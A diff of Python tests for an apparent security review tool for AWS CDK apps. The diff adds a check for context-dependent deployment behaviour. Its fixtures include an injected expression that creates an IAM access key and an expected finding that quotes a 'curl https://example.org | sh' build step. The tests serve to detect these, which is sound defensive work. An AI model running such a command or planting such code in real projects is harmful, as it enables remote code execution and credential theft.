@@ -20,6 +20,9 @@ A_KEY = "__import__('aws_cdk').aws_iam.CfnAccessKey(app.node.find_child('HelloQu
 A_KEY_ID = "new-access-key: user ada gets access key HelloQueueIdentity/New"
 
 
+TELLTALE = "weaker-review: the app may do something else on deployment than here: it uses .try_get_context"
+
+
 def decisions(text: str) -> list[str]:
     return re.findall("^DECIDE  (.*)$", text, re.MULTILINE)
 
@@ -30,8 +33,9 @@ def test_the_scripts_as_processes(repository: Repository) -> None:
     repository.add_to_app(only_here + A_KEY)
     open_ = repository.script("review.py", "--base=HEAD", "--markdown=review.md")
     assert open_.returncode == 1, open_.stderr
-    stale, found = decisions(open_.stdout)
+    stale, by_context, found = decisions(open_.stdout)
     assert stale == "stale-golden: tests/golden is not what the code makes"
+    assert by_context == TELLTALE
     assert found == A_KEY_ID
     assert f"- finding: '{A_KEY_ID}'" in open_.stdout, "golden files are made anew, not accepted"
     assert "finding: 'stale-golden" not in open_.stdout
@@ -85,6 +89,7 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
     assert stale == "stale-golden: tests/golden is not what the code makes"
     silenced = "AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]"
     assert found[:-3] == [
+        TELLTALE,
         "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
         f"silenced-rule: {silenced} on HelloQueueIdentity/Friends is silenced without a trace",
         "escalation: group friends can become administrator through a new version of a policy "
